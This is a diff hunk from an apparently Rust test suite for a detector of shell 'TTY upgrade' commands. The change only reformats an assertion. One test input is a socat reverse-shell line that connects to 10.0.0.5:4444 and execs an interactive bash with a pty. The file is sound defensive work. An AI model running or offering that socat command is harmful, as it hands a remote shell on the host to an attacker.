@@ -190,5 +190,8 @@ root       84500   84010  0 14:06 ?        00:00:00 python3 -m http.server 8000
     assert!(up[1].summary.contains("script -c with a shell"), "{}", up[1].summary);
     assert_eq!(up[0].severity, Severity::High);
     assert_eq!(cmdline::tty_upgrade("script -a /var/log/session.log"), None);
-    assert_eq!(cmdline::tty_upgrade("socat tcp:10.0.0.5:4444 exec:'bash -li',pty,stderr,setsid"), Some("socat with a pty"));
+    assert_eq!(
+        cmdline::tty_upgrade("socat tcp:10.0.0.5:4444 exec:'bash -li',pty,stderr,setsid"),
+        Some("socat with a pty")
+    );
 }
